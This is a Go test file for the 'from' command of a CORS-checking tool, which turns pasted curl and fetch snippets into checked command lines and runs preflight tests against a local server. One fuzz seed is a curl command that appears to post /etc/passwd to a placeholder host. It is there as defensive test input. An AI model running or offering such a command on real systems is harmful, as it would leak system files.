package main

import (
	"bytes"
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"golang.org/x/tools/txtar"
	"mvdan.cc/sh/v3/interp"
	"mvdan.cc/sh/v3/syntax"

	"github.com/cors-check/cors-check/report/usage"
	"github.com/cors-check/cors-check/rules/from"
)

// asPrinted runs from with --print: what it comes to, or what it asks for.
func asPrinted(text string, more ...string) string {
	var out, beside bytes.Buffer
	status := run(append([]string{"from", "--print"}, more...), strings.NewReader(text), &out, &beside)
	if status != asExpected {
		return strings.TrimSpace(beside.String())
	}
	return strings.TrimSpace(out.String())
}

// TestFrom holds samples of what people copy to the command lines they come to.
// FROM_UPDATE=1 writes those anew.
func TestFrom(t *testing.T) {
	files, err := filepath.Glob("testdata/from/*.txtar")
	if err != nil || len(files) != 3 {
		t.Fatal(files, err)
	}
	for _, name := range files {
		text, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		samples := txtar.Parse(text)
		for i := 0; i+1 < len(samples.Files); i += 2 {
			in, want := string(samples.Files[i].Data), strings.TrimSpace(string(samples.Files[i+1].Data))
			var more []string
			if !strings.HasSuffix(name, "copied.txtar") {
				more = []string{"--origin", "https://app.test"}
			}
			got := asPrinted(in, more...)
			sameAsPrinted(t, in, more...)
			if os.Getenv("FROM_UPDATE") != "" {
				samples.Files[i+1].Data = []byte(got + "\n")
			} else if got != want {
				t.Errorf("%s, %s: %s\nwant %s", name, samples.Files[i].Name, got, want)
			}
		}
		if os.Getenv("FROM_UPDATE") != "" {
			if err := os.WriteFile(name, txtar.Format(samples), 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
}

// typed runs a command line as a shell does, and is its arguments and what it
// has on standard input.
func typed(t *testing.T, line string) (args []string, stdin string) {
	t.Helper()
	script, err := syntax.NewParser().Parse(strings.NewReader(line), "")
	if err != nil {
		t.Fatalf("%s: %v", line, err)
	}
	program := func(interp.ExecHandlerFunc) interp.ExecHandlerFunc {
		return func(ctx context.Context, words []string) error {
			in, err := io.ReadAll(interp.HandlerCtx(ctx).Stdin)
			args, stdin = words[1:], string(in)
			return err
		}
	}
	runner, err := interp.New(interp.StdIO(strings.NewReader(""), io.Discard, io.Discard), interp.ExecHandlers(program))
	if err != nil {
		t.Fatal(err)
	}
	if err := runner.Run(t.Context(), script); err != nil {
		t.Fatalf("%s: %v", line, err)
	}
	return args, stdin
}

// sameAsPrinted holds that a text with one call is checked as the command line
// that is printed for it.
func sameAsPrinted(t *testing.T, text string, more ...string) {
	t.Helper()
	line := asPrinted(text, append(more, "--show-secrets")...)
	if !strings.Contains(line, usage.Program+" ") || strings.HasPrefix(line, usage.Program+":") || strings.Contains(line, "\n"+usage.Program+" ") {
		return
	}
	direct := plannedOf(t, text, append([]string{"from"}, more...))
	args, stdin := typed(t, line)
	again := plannedOf(t, stdin, args)
	for _, o := range []*outcome{&direct, &again} {
		o.plan.Verify, o.plan.Notes, o.verify, o.printed = "", nil, "", ""
	}
	if !reflect.DeepEqual(direct, again) {
		t.Errorf("%s\n%s\ndirect: %+v\nagain:  %+v", text, line, direct, again)
	}
}

// FuzzFrom holds that no text does harm: each is refused, or is checked as the
// command line that is printed for it.
func FuzzFrom(f *testing.F) {
	files, _ := filepath.Glob("testdata/from/*.txtar")
	for _, name := range files {
		text, _ := os.ReadFile(name)
		for i, sample := range txtar.Parse(text).Files {
			if i%2 == 0 {
				f.Add(string(sample.Data))
			}
		}
	}
	f.Add("curl http://a.test --data-raw '@/etc/passwd'")
	f.Fuzz(func(t *testing.T, text string) {
		if strings.Contains(text, "\x00") || strings.Contains(text, "\\") || !utf8.ValidString(text) {
			t.Skip("what no argument can be, or may become that")
		}
		if kind, _, _ := from.Recognise(strings.NewReader(text)); kind.Name == "openapi" || kind.Name == "har" || kind.Name == "raw" {
			t.Skip("FuzzRead reads it")
		}
		sameAsPrinted(t, text, "--origin", "https://app.test")
	})
}

// TestFromGiven: what a text does not say an option says, each for itself.
func TestFromGiven(t *testing.T) {
	const post = "fetch(`${API}/a`, {method: 'POST', headers: {Authorization: `Bearer ${token}`, 'X-Team': team}, body: JSON.stringify(user), credentials: how})"
	all := []string{"--url", "https://api.test/a", "-H", "authorization: Bearer Zx81kQpW", "-H", "X-Team: a", "-d", "{}", "--credentials", "omit"}
	for left, want := range map[int]string{
		0: "cors-check: --url: the URL is `${API}/a`, in which ${API} is known only when the text runs; give it with --url URL",
		2: "cors-check: --header: the header Authorization is `Bearer ${token}`, in which ${token} is known only when the text runs; give it with -H 'Authorization: VALUE'",
		4: "cors-check: --header: the header X-Team is team, which is known only when the text runs; give it with -H 'X-Team: VALUE'",
		6: "cors-check: --data: the body is JSON.stringify(user), in which user is known only when the text runs; give it with -d BODY",
		8: "cors-check: --credentials: credentials is how, which is known only when the text runs; give it with --credentials MODE",
	} {
		given := slices.Concat(all[:left], all[left+2:], []string{"--origin", "https://app.test"})
		var out, errs bytes.Buffer
		if status := run(append([]string{"from"}, given...), strings.NewReader(post), &out, &errs); status != wrongUsage || strings.TrimSpace(errs.String()) != want || out.Len() > 0 {
			t.Errorf("without %s: status %d: %s%s\nwant %s", all[left:left+2], status, &out, &errs, want)
		}
	}
	const want = `cors-check https://api.test/a --origin https://app.test --method POST --header "authorization: $AUTHORIZATION" --header 'X-Team: a' --data {} --credentials omit`
	if got := asPrinted(post, append(all, "--origin", "https://app.test")...); strings.ReplaceAll(got, "'{}'", "{}") != want {
		t.Errorf("%s\nwant %s", got, want)
	}
}

// TestFromChecked: one call is checked as its command line would be, several
// are cases of a suite, and nothing is sent that --send is wanted for.
func TestFromChecked(t *testing.T) {
	var asked []string
	var mu sync.Mutex
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		asked = append(asked, r.Method+" "+r.URL.Path+" "+r.Header.Get("X-Extra"))
		mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "http://app.test")
		w.Header().Set("Access-Control-Allow-Methods", "PUT")
	}))
	defer api.Close()
	for _, tt := range []struct {
		text   string
		status int
		says   []string
		asked  string // of what is asked
		not    string // asked
	}{
		{"curl " + api.URL + "/a -H 'Origin: http://app.test' -H 'Sec-Fetch-Mode: cors' -H 'User-Agent: Mozilla/5.0 (X11)'", asExpected,
			[]string{"ALLOWED", "Left out, because the browser adds it itself: sec-fetch-mode, user-agent."}, "GET /a ", "OPTIONS"},
		{"fetch('" + api.URL + "/a', {headers: {'X-Extra': '1'}})", unexpected, []string{"BLOCKED", "x-extra"}, "OPTIONS /a ", ""},
		{"curl -X PUT " + api.URL + "/a", asExpected, []string{"PREFLIGHT PASSES", "PUT was not sent"}, "OPTIONS /a ", "PUT"},
		{"fetch('" + api.URL + "/a'); fetch('" + api.URL + "/b', {method: 'DELETE'})", unexpected, []string{"GET " + api.URL + "/a", "DELETE " + api.URL + "/b", "1 failed"}, "OPTIONS /b ", "DELETE"},
	} {
		asked = nil
		var out, errs bytes.Buffer
		status := run([]string{"from", "--origin", "http://app.test", "-v"}, strings.NewReader(tt.text), &out, &errs)
		if status != tt.status {
			t.Errorf("%s: status %d: %s%s", tt.text, status, &out, &errs)
		}
		for _, s := range tt.says {
			if !strings.Contains(strings.Join(strings.Fields(out.String()), " "), s) {
				t.Errorf("%s: no %q in\n%s", tt.text, s, &out)
			}
		}
		sent := strings.Join(asked, "\n")
		if !strings.Contains(sent, tt.asked) || tt.not != "" && strings.Contains(sent, tt.not) {
			t.Errorf("%s: sent\n%s", tt.text, sent)
		}
	}
}
